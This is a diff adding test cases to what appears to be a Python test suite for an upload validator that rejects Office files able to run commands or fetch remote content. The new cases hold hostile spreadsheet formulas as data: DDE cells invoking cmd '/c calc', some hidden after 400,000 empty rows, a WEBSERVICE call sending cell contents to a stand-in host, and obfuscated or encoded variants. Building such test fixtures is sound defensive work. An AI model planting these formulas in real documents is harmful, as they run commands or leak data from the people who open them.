@@ -37,6 +37,10 @@ def field(*pieces: str) -> str:
     return f"<w:document {W}><w:body><w:p>{runs}</w:p></w:body></w:document>"
 
 
+def cell(formula: str) -> str:
+    return f"<row><c r='A1'><f>{formula}</f><v>1</v></c></row>"
+
+
 def relation(kind: str, target: str, *, out: bool = True) -> dict[str, bytes | str]:
     mode = ' TargetMode="External"' if out else ""
     said = f'<Relationship Id="a" Type="http://x/relationships/{kind}" Target="{target}"{mode}/>'
@@ -78,6 +82,13 @@ def keep(given: bytes) -> evidence.Kept:
         (package({"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"}, SHEET),
          "file_links"),
         (package({"xl/connections.xml": "<connections/>"}, SHEET), "file_links"),
+        (package({"xl/worksheets/sheet1.xml": cell('_xlfn.WEBSERVICE("http://x/" &amp; A1)')}, SHEET), "file_links"),
+        (package({"xl/worksheets/sheet1.xml": cell("1+web&#115;ervice (A1)")}, SHEET), "file_links"),
+        (package({"xl/worksheets/sheet1.xml": "<row/>" * 400_000 + cell("cmd|'/c calc'!A1")}, SHEET), "not_a_paper"),
+        (package({"xl/worksheets/sheet1.xml": f"<x>{'<row/>' * 400_000}{cell("cmd|'/c calc'!A1")}</x>"}, SHEET),
+         "file_links"),
+        (package({"xl/a.bin": cell("IMAGE(B2)").encode("utf-16")}, SHEET), "file_links"),
+        (package({"xl/workbook.xml": "<x:definedName xmlns:x='a'>RTD(1)</x:definedName>"}, SHEET), "file_links"),
         (package({"word/media/a.png": png(60_000, 60_000)}), "picture_too_large"),
         (package({"xl/media/a.bin": jpeg(60_000, 60_000)}, SHEET), "picture_too_large"),
         (package({"xl/worksheets/sheet1.xml": b" " * (64 << 20)}, SHEET), "file_too_large"),
@@ -113,6 +124,7 @@ def test_what_runs_or_fetches_or_explodes_is_not_kept(given: bytes, code: str) -
         ),
         (package(relation("hyperlink", "https://a.gov.cn/link")), "docx"),
         (package({"xl/worksheets/sheet1.xml": "<row/>" * 9_000, "xl/media/a.png": png(5_000, 7_000)}, SHEET), "xlsx"),
+        (package({"xl/worksheets/sheet1.xml": cell("IF(A1=&quot;CALL(1)&quot;,'a|b'!B2,SUM(B:B))")}, SHEET), "xlsx"),
         (png(9_900, 7_000), "png"),
         (jpeg(9_900, 7_000), "jpeg"),
         (b"\xff\xd8\xff cut off", "jpeg"),
